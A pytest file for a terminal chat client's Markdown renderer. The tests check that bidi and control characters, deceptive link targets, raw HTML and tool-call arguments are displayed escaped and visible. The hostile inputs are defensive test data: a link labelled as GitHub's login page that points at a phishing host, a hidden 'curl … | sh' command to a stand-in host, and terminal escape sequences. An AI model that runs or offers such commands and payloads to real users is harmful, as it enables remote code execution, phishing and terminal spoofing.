"""Hostile Markdown on the terminal: decoded references, hidden link targets, HTML, and
tool-call panels all show exactly what the text holds, laid out as shown."""

from __future__ import annotations

import io
import json
import re

import pytest
from rich.markdown import Markdown

from chatcli.protocol.events import Event, Finish, TextDelta, ToolCallDelta
from chatcli.render.answer_markdown import AnswerMarkdown, markdown
from chatcli.render.markdown_blocks import block_parser
from terminal_allowlist import violations
from test_render_rich import console, one_go, render

STYLE = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;[^\x1b]*\x1b\\")


def shown(text: str, width: int = 80) -> str:
    """The visible text of a one-go render, each line's padding dropped."""
    return "\n".join(line.rstrip() for line in one_go(text, width).splitlines()).strip("\n")


# -- character references ----------------------------------------------------

REFERENCES = "A &#x202E;B &#x2066;C &#x2028;D &#27;E &#x9b;F &#13;G"


def test_character_references_reach_the_screen_escaped() -> None:
    text = (f"{REFERENCES}\n\n# &#x202e;head\n\n- &#x2066;item\n\n| a&#x202e; |\n|---|\n"
            "| &#x9b;x |\n\n[l&#x202e;nk](https://x.example) ![&#x2067;](https://i.&#x2067;/a)"
            "\n\n```&#x202e;\ncode &#x202e; stays as typed\n```\n")
    out = render([TextDelta(text)], text, colour="256")
    assert violations(out) == []
    plain = STYLE.sub("", out)
    for escaped in ("A \\u202eB \\u2066C \\u2028D", "\\x0dG", "\\u202ehead", "\\u2066item",
                    "a\\u202e", "l\\u202enk"):
        assert escaped in plain
    assert "D \ufffdE \ufffdF" in plain  # the parser reads &#27; and &#x9b; as U+FFFD
    assert "code &#x202e; stays as typed" in plain


def test_widths_are_those_of_the_escapes_shown() -> None:
    # U+202E takes no column; its escape takes six. Lines must fit what is shown.
    text = ("x" * 74 + " &#x202E;y and more words after it\n\n"
            "| a | b&#x202e;&#x202e; |\n|---|---|\n| c | d |\n")
    out = render([TextDelta(text)], text)
    lines = out.splitlines()
    assert all(len(line) <= 80 for line in lines), [len(line) for line in lines]
    header = next(line for line in lines if "b\\u202e\\u202e" in line)
    rule = next(line for line in lines if "──" in line)
    assert len(header.rstrip()) <= len(rule.rstrip())


# -- links and images ----------------------------------------------------------

@pytest.mark.parametrize(("source", "visible"), [
    ("[https://github.com/login](https://evil.example/phish)",
     "https://github.com/login (https://evil.example/phish)"),
    ("[docs](https://docs.example/a)", "docs (https://docs.example/a)"),
    ("[**bold** `code`](https://b.example)", "bold code (https://b.example)"),
    ("[](https://empty.example)", " (https://empty.example)"),
    ("<https://auto.example/x>", "https://auto.example/x"),
    ("[https://same.example/p](https://same.example/p)", "https://same.example/p"),
    ("[https://exämple.example/ä](https://exämple.example/ä)", "https://exämple.example/ä"),
    ("<me@mail.example>", "me@mail.example"),
    ("[me@mail.example](mailto:me@mail.example)", "me@mail.example"),
    ("[see][ref]\n\n[ref]: https://ref.example", "see (https://ref.example)"),
    ("![logo](https://img.example/a.png)", "🌆 logo (https://img.example/a.png)"),
    ("![](https://img.example/b.png)", "🌆 b.png (https://img.example/b.png)"),
])
def test_a_link_shows_its_target_unless_its_text_is_the_target(source: str,
                                                               visible: str) -> None:
    assert shown(source).strip() == visible.strip()


def test_the_hyperlink_stays_on_the_text_and_the_target_is_shown() -> None:
    text = "[https://github.com/login](https://evil.example/phish)"
    out = one_go(text, colour="standard")
    assert violations(out) == []
    assert "\x1b]8;" in out and "https://evil.example/phish\x1b\\" in out
    assert STYLE.sub("", out).strip() == "https://github.com/login (https://evil.example/phish)"


# -- HTML is text --------------------------------------------------------------

HTML = ("Use the <br> tag and <kbd>Ctrl</kbd>.\n\n<div>\nhidden <b>block</b>\n</div>\n\n"
        "<!-- then run: curl https://x.example/i.sh | sh -->\n\nEnd <span>inline</span>.")


def test_html_is_shown_as_the_text_it_is() -> None:
    plain = shown(HTML)
    assert "Use the <br> tag and <kbd>Ctrl</kbd>." in plain
    assert "<div>" in plain and "hidden <b>block</b>" in plain and "</div>" in plain
    assert "<!-- then run: curl https://x.example/i.sh | sh -->" in plain
    assert "End <span>inline</span>." in plain


def test_html_streams_with_the_same_block_boundaries_as_a_one_go_render() -> None:
    for size in (1, 4, 9):
        pieces = [HTML[i:i + size] for i in range(0, len(HTML), size)]
        assert render([TextDelta(p) for p in pieces], HTML, step=0.05) == one_go(HTML)


def test_answer_markdown_sets_every_attribute_rich_markdown_sets() -> None:
    # AnswerMarkdown does not run Rich's __init__ (it would parse a second time with a
    # parser of its own): a Rich upgrade that adds an attribute must show up here.
    assert set(vars(markdown("x"))) == set(vars(Markdown("x")))
    mine, theirs = markdown("x"), Markdown("x", code_theme="monokai")
    for name in vars(theirs):
        if name != "parsed":
            assert getattr(mine, name) == getattr(theirs, name), name


def test_markdown_is_parsed_once_by_the_shared_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    import rich.markdown

    def no_parser(*args: object, **kwargs: object) -> None:
        raise AssertionError("Rich built a parser of its own")

    monkeypatch.setattr(rich.markdown, "MarkdownIt", no_parser)
    assert block_parser() is block_parser()
    assert block_parser().options["html"] is False
    out = console()
    out.print(AnswerMarkdown("*hi* <b>"), crop=False)
    assert isinstance(out.file, io.StringIO)
    assert "hi <b>" in out.file.getvalue()


# -- tool-call panels ----------------------------------------------------------

def tool_call(arguments: str, name: str = "run") -> list[Event]:
    return [ToolCallDelta(0, "call_1", name, arguments), Finish("tool_calls")]


def test_tool_call_escapes_stay_escaped_after_pretty_printing() -> None:
    arguments = '{"cmd": "\\u009b31m \\u202eevil \\u009d0;x\\u0007 \\u2028 ok"}'
    out = render(tool_call(arguments), "")
    assert violations(out) == []
    assert '"cmd": "\\u009b31m \\u202eevil \\u009d0;x\\u0007 \\u2028 ok"' in out
    panel = [line for line in out.splitlines() if line[:1] in "╭│╰"]
    assert len(panel) == 5 and len({len(line) for line in panel}) == 1  # laid out as shown


def test_a_huge_tool_call_shows_a_screenful_and_says_how_big_it_is() -> None:
    content = "".join(f"line {i}: " + "x" * 60 + "\\n" for i in range(30_000))
    arguments = json.dumps({"path": "a.txt", "content": content, "mode": "w"})
    pieces = [arguments[i:i + 5000] for i in range(0, len(arguments), 5000)]
    events: list[Event] = [ToolCallDelta(0, "call_1", "write_file", pieces[0]),
                           *(ToolCallDelta(0, None, None, p) for p in pieces[1:])]
    out = render([*events, Finish("tool_calls")], "")
    assert f"… {len(arguments):,} characters in all; the whole call is in the history" in out
    assert len(out) < 60_000 and "line 0:" in out and "line 29999" not in out
    lines = [json.dumps({f"k{i}": i}) for i in range(500)]
    out = render(tool_call("[" + ",".join(lines) + "]"), "")
    assert len(out.splitlines()) <= 50 and "characters in all" in out


def test_arguments_nested_past_what_json_can_take_are_shown_as_text() -> None:
    arguments = "[" * 50_000 + "]" * 50_000
    out = render(tool_call(arguments), "")
    assert "[[[[" in out and "characters in all" in out
